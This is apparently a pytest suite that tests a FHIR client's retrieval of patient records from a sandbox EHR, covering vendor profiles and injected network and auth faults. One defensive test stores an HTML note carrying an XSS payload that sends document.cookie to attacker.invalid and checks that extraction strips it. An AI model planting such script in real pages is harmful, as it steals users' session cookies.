"""Record retrieval against the sandbox EHR over real HTTP: each profile, each fault."""

from __future__ import annotations

import base64

import pytest

from smartapp.errors import FhirAuthError
from smartapp.fhir import FhirClient, fetch_patient_record
from smartapp.fhir import searches as searches_module
from smartapp.notes.extract import extract_text

pytestmark = pytest.mark.sandbox
PATIENT = "lmri-complete"
VENDORS = {"plain": None, "epic": "epic", "cerner": "cerner"}


class SandboxTokens:
    """TokenProvider double: tokens minted by the sandbox's admin API, refresh mints anew."""

    def __init__(self, sandbox, tenant: str, patient: str, scope: str = "patient/*.read"):
        self.sandbox, self.tenant, self.patient, self.scope = sandbox, tenant, patient, scope
        self.refreshes = 0
        self.refusable = False
        self.token = sandbox.token(tenant, patient, scope=scope)

    def access_token(self) -> str:
        return self.token

    def refresh(self) -> str:
        self.refreshes += 1
        if self.refusable:
            raise FhirAuthError("refresh refused")
        self.token = self.sandbox.token(self.tenant, self.patient, scope=self.scope)
        return self.token


def client_for(sandbox, tenant: str, tokens: SandboxTokens, **kwargs) -> FhirClient:  # type: ignore[no-untyped-def]
    return FhirClient(sandbox.base(tenant), tokens, vendor=VENDORS[tenant.split("-")[0]],
                      **kwargs)  # fmt: skip


def fetch(sandbox, tenant: str = "plain", patient: str = PATIENT, **kwargs):  # type: ignore[no-untyped-def]
    tokens = SandboxTokens(sandbox, tenant, patient)
    client = client_for(sandbox, tenant, tokens, **kwargs.pop("client", {}))
    return fetch_patient_record(client, patient, **kwargs), tokens


def inject(sandbox, *rules, **extra) -> None:  # type: ignore[no-untyped-def]
    sandbox.admin("POST", "faults", {"rules": list(rules), **extra}).raise_for_status()


def binaries(bundle: dict) -> list[dict]:
    return [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Binary"]


@pytest.mark.parametrize("tenant", ["plain", "epic", "cerner"])
def test_each_profile_reads_the_whole_record_and_every_note(sandbox_faults, tenant):
    result, _ = fetch(
        sandbox_faults, tenant, order_ref="ServiceRequest/lmri-complete-order"
    )
    for kind in ("Patient", "Condition", "DocumentReference", "ServiceRequest", "Practitioner",
                 "Coverage", "MedicationRequest", "Encounter", "Procedure"):  # fmt: skip
        assert result.counts.get(kind), kind
    assert result.notes_fetched == result.notes_total == result.counts["DocumentReference"]
    for binary in binaries(result.bundle):
        assert extract_text(base64.b64decode(binary["data"]), binary["contentType"]).strip()
    unexpected = [w for w in result.warnings if w.reason != "incomplete"]
    assert unexpected == []
    log = sandbox_faults.admin("GET", "requests").json()
    if tenant == "epic":
        # Epic's OperationOutcome entries are surfaced, and Observation is asked per category.
        assert {w.resource_type for w in result.warnings} == {"DocumentReference", "Condition"}
        assert all("category=" in r["path"] + str(r.get("query", "")) or "Observation" not in
                   r["path"] for r in log if r["status"] == 200)  # fmt: skip
        assert not any(r["status"] == 400 for r in log)
    else:
        assert result.warnings == []
    if tenant == "cerner":
        binary_reads = [r for r in log if "Binary/" in r["path"]]
        assert binary_reads and all(r["accept"] in ("application/pdf", "application/xml")
                                    for r in binary_reads)  # fmt: skip


def test_paging_follows_every_next_link(sandbox_faults, monkeypatch):
    monkeypatch.setattr(searches_module, "page_size", lambda vendor, kind: 10)
    result, _ = fetch(sandbox_faults, "epic", "lmri-bulk")
    assert result.counts["DocumentReference"] == 45
    assert result.notes_fetched == 45


def test_a_looping_next_link_stops_with_a_warning(sandbox_faults, monkeypatch):
    monkeypatch.setattr(searches_module, "page_size", lambda vendor, kind: 10)
    inject(sandbox_faults, {"action": "loop-next", "match": {"resource_type": "Encounter"}})
    result, _ = fetch(sandbox_faults, "plain", "lmri-bulk")
    assert ("Encounter", "incomplete") in {(w.resource_type, w.reason) for w in result.warnings}
    assert result.counts["Encounter"] == 10


@pytest.mark.parametrize("status", [429, 503])
def test_throttling_and_busy_answers_are_retried_after_retry_after(sandbox_faults, status):
    inject(sandbox_faults, {"action": "status", "status": status, "retry_after": 1, "times": 2,
                            "match": {"resource_type": "Condition"}})  # fmt: skip
    result, _ = fetch(sandbox_faults)
    assert result.warnings == [] and result.counts["Condition"] >= 1


def test_latency_and_a_dropped_connection_are_survived(sandbox_faults):
    inject(sandbox_faults, {"action": "drop-connection", "times": 1,
                            "match": {"resource_type": "Procedure"}}, latency_ms=50)  # fmt: skip
    result, _ = fetch(sandbox_faults)
    assert result.warnings == [] and result.counts["Procedure"] >= 1


def test_a_hung_connection_becomes_a_timeout_warning(sandbox_faults):
    # Read timeout well above the sandbox's slowest search, well below the hang.
    inject(
        sandbox_faults, {"action": "hang", "seconds": 20, "match": {"resource_type": "Coverage"}}
    )
    result, _ = fetch(sandbox_faults, client={"timeout": (2.0, 6.0)})
    assert [(w.resource_type, w.reason) for w in result.warnings] == [("Coverage", "timeout")]
    assert result.counts["Condition"] >= 1


def test_a_revoked_token_mid_fetch_is_refreshed_once(sandbox_faults):
    revoked: list[bool] = []

    def revoke_once(progress: dict) -> None:
        if progress["searches_done"] >= 1 and not revoked:
            revoked.append(True)
            sandbox_faults.admin("POST", "tokens/revoke", {"tenant": "plain"}).raise_for_status()

    result, tokens = fetch(sandbox_faults, progress=revoke_once)
    assert revoked and tokens.refreshes == 1
    assert result.warnings == []


def test_a_refused_refresh_stops_retrieval_with_an_auth_error(sandbox_faults):
    tokens = SandboxTokens(sandbox_faults, "plain", PATIENT)
    tokens.refusable = True
    sandbox_faults.admin("POST", "tokens/revoke", {"tenant": "plain"}).raise_for_status()
    with pytest.raises(FhirAuthError):
        fetch_patient_record(client_for(sandbox_faults, "plain", tokens), PATIENT)


def test_malformed_json_is_a_warning_on_its_type(sandbox_faults):
    inject(sandbox_faults, {"action": "malformed-json", "match": {"resource_type": "Procedure"}})
    result, _ = fetch(sandbox_faults)
    assert [(w.resource_type, w.reason) for w in result.warnings] == [("Procedure", "processing")]


def test_scopes_not_granted_are_not_requested_and_403s_are_warnings(sandbox_faults):
    tokens = SandboxTokens(sandbox_faults, "plain", PATIENT,
                           scope="patient/Patient.rs patient/Condition.rs")  # fmt: skip
    client = client_for(sandbox_faults, "plain", tokens)
    result = fetch_patient_record(client, PATIENT, unreadable_types={"Coverage": "not granted"})
    reasons = {(w.resource_type, w.reason) for w in result.warnings}
    assert ("Coverage", "forbidden") in reasons and ("Observation", "forbidden") in reasons
    assert result.counts["Condition"] >= 1
    log = sandbox_faults.admin("GET", "requests").json()
    assert not any(r["path"].startswith("Coverage") for r in log)


def test_hostile_html_note_is_fetched_and_reduced_to_inert_text(sandbox_faults):
    writer = sandbox_faults.token("plain", None, scope="user/*.*")
    hostile = (b"<html><body><p onclick=\"steal()\">Back pain for 8 weeks.</p>"
               b"<script>document.location='http://attacker.invalid/?'+document.cookie</script>"
               b"<img src=x onerror=alert(1)></body></html>")  # fmt: skip
    base = sandbox_faults.base("plain")
    headers = {"Authorization": f"Bearer {writer}", "Content-Type": "application/fhir+json"}
    import requests

    resources = [
        {"resourceType": "Patient", "id": "fetch-hostile"},
        {"resourceType": "Binary", "id": "fetch-hostile-note", "contentType": "text/html",
         "data": base64.b64encode(hostile).decode()},
        {"resourceType": "DocumentReference", "id": "fetch-hostile-doc", "status": "current",
         "subject": {"reference": "Patient/fetch-hostile"},
         "content": [{"attachment": {"contentType": "text/html",
                                     "url": "Binary/fetch-hostile-note"}}]},
    ]  # fmt: skip
    for resource in resources:
        url = f"{base}/{resource['resourceType']}/{resource['id']}"
        requests.put(url, json=resource, headers=headers, timeout=30).raise_for_status()
    result, _ = fetch(sandbox_faults, "plain", "fetch-hostile")
    (binary,) = binaries(result.bundle)
    assert base64.b64decode(binary["data"]) == hostile  # kept as sent, for offline re-reading
    text = extract_text(base64.b64decode(binary["data"]), "text/html")
    assert "Back pain for 8 weeks." in text
    assert "<" not in text and "document.cookie" not in text and "onerror" not in text
